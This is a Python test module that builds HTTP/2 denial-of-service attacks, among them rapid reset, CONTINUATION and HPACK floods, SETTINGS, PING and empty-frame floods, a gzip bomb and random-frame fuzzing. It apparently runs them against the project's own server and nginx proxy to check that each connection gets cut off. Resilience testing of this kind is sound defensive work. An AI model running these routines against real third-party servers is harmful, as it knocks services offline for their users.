"""HTTP/2 as a weapon: what attackers send, and what a server did about it.

Each attack takes a function that makes a connection, and returns an Outcome. They run against omend itself
(check_abuse.py) and against the proxy of deploy/nginx (check_proxy.py). SPDX-License-Identifier: Apache-2.0
"""

import contextlib
import gzip
import time
from dataclasses import dataclass

from h2raw import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW,
    PING,
    RST,
    SETTINGS,
    Closed,
    Connection,
    frame,
    literal,
    message,
    request_block,
)

COUNT = "/omen.v1.Items/Count"
MIB = 1 << 20


@dataclass
class Outcome:
    sent: int  # of what the attack is about: resets, bytes, frames
    closed: bool  # the server ended the connection
    seconds: float


def _flood(connect, make, count, patience=5, quiet=False):
    """Sends make(peer, i) up to `count` times, reading what comes back; whether the server ended it. quiet: it
    answers nothing, since only CONTINUATION may follow HEADERS without an end."""
    begun, sent, closed = time.monotonic(), 0, False
    peer = connect()
    try:
        if quiet:
            peer.until(lambda f: f.kind == SETTINGS and not f.flags & ACK)
            peer.mute = True
        while sent < count:
            peer.send(make(peer, sent))
            sent += 1
            while peer.ready():
                peer.read()
        closed = peer.closed_within(patience)
    except (Closed, OSError):
        closed = True
    finally:
        with contextlib.suppress(OSError):
            peer.reset()
    return Outcome(sent, closed, time.monotonic() - begun)


def rapid_reset(connect, count=100000, group=50):
    """CVE-2023-44487: a call and its cancellation, again and again."""
    cancel = CANCEL.to_bytes(4, "big")

    def make(peer, _):
        out = []
        for _ in range(group):
            stream, begin = peer.headers(COUNT)
            out.append(begin + frame(RST, 0, stream, cancel))
        return b"".join(out)

    got = _flood(connect, make, count // group)
    return Outcome(got.sent * group, got.closed, got.seconds)


def continuation_flood(connect, size=256 * MIB):
    """A header block without an end: CONTINUATION after CONTINUATION (2024). sent: bytes."""
    piece = b"".join(literal("x-%d" % i, b"y" * 400) for i in range(35))
    began = []

    def make(peer, i):
        if i == 0:
            began.append(peer.stream())
            return frame(HEADERS, 0, began[0], request_block(COUNT))
        return b"".join(frame(CONTINUATION, 0, began[0], piece) for _ in range(16))

    got = _flood(connect, make, size // (16 * len(piece)), quiet=True)
    return Outcome(got.sent * 16 * len(piece), got.closed, got.seconds)


def hpack_string(connect, size=64 * MIB):
    """CVE-2023-33953: one header value without an end. sent: bytes."""
    began = []
    piece = b"z" * 16000

    def make(peer, i):
        if i == 0:
            began.append(peer.stream())
            start = request_block(COUNT) + b"\0" + b"\x03big" + b"\x7f\x81\xff\xff\xff\x03"  # 1 GB
            return frame(HEADERS, 0, began[0], start)
        return b"".join(frame(CONTINUATION, 0, began[0], piece) for _ in range(8))

    got = _flood(connect, make, size // (8 * len(piece)), quiet=True)
    return Outcome(got.sent * 8 * len(piece), got.closed, got.seconds)


def hpack_bomb(connect, count=200):
    """A large header enters the table once, and is then named a thousand times a request."""
    big = b"a" * 3800

    def make(peer, i):
        stream = peer.stream()
        if i == 0:
            enter = b"\x40\x03big" + b"\x7f" + _size(len(big)) + big  # with indexing: entry 62
            block = request_block(COUNT) + enter
        else:
            block = request_block(COUNT) + b"\xbe" * 8000
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)

    return _flood(connect, make, count)


def _size(value):
    """The rest of an HPACK integer of 7 bits above 126."""
    value -= 127
    out = bytearray()
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    out.append(value)
    return bytes(out)


def settings_flood(connect, count=200000):
    """SETTINGS, each of which wants to be acknowledged. sent: frames."""
    many = Connection.settings_frame([(INITIAL_WINDOW, 65535)]) * 500
    got = _flood(connect, lambda peer, i: many, count // 500)
    return Outcome(got.sent * 500, got.closed, got.seconds)


def ping_flood(connect, count=200000):
    """PING, each of which wants to be answered. sent: frames."""
    many = frame(PING, 0, 0, b"12345678") * 500
    got = _flood(connect, lambda peer, i: many, count // 500)
    return Outcome(got.sent * 500, got.closed, got.seconds)


def empty_frames(connect, count=200000):
    """DATA of no bytes on one call (CVE-2019-9518). sent: frames."""
    began = []

    def make(peer, i):
        if i == 0:
            stream, begin = peer.headers(COUNT)
            began.append(stream)
            return begin
        return frame(DATA, 0, began[0]) * 500

    got = _flood(connect, make, count // 500)
    return Outcome(got.sent * 500, got.closed, got.seconds)


def gzip_bomb(connect, size=512 * MIB):
    """Half a megabyte that unpacks to a thousand times as much. sent: bytes."""
    body = message(gzip.compress(bytes(size), 6), compressed=1)
    peer = connect()
    begun, closed, over = time.monotonic(), False, False
    try:
        peer.read()
        stream, begin = peer.headers(COUNT, ("grpc-encoding", "gzip"))
        peer.send(begin)
        for at in range(0, len(body), 16384):
            piece = body[at : at + 16384]
            peer.send(frame(DATA, END_STREAM if at + len(piece) == len(body) else 0, stream, piece))
            while peer.ready():
                over = peer.ends(peer.read(), stream) or over
        if not over:
            peer.end_of(stream)
    except (Closed, OSError):
        closed = True
    with contextlib.suppress(OSError):
        peer.reset()
    return Outcome(len(body), closed, time.monotonic() - begun)


def garbage(connect, chance, count=100):
    """Frames of all kinds with random bytes, a connection each. sent: connections."""
    begun = time.monotonic()
    for _ in range(count):
        peer = connect()
        with contextlib.suppress(Closed, OSError):
            for _ in range(20):
                size = chance.choice((0, 1, 4, 5, 6, 8, 9, 100, 16384, 16385))
                stream = chance.choice((0, 1, 2, 3, 0x7FFFFFFF))
                peer.send(
                    frame(chance.randrange(12), chance.randrange(256), stream, chance.randbytes(size))
                )
        with contextlib.suppress(OSError):
            peer.reset()
    return Outcome(count, True, time.monotonic() - begun)


ATTACKS = (
    rapid_reset, continuation_flood, hpack_string, hpack_bomb, settings_flood, ping_flood, empty_frames,
    gzip_bomb,
)
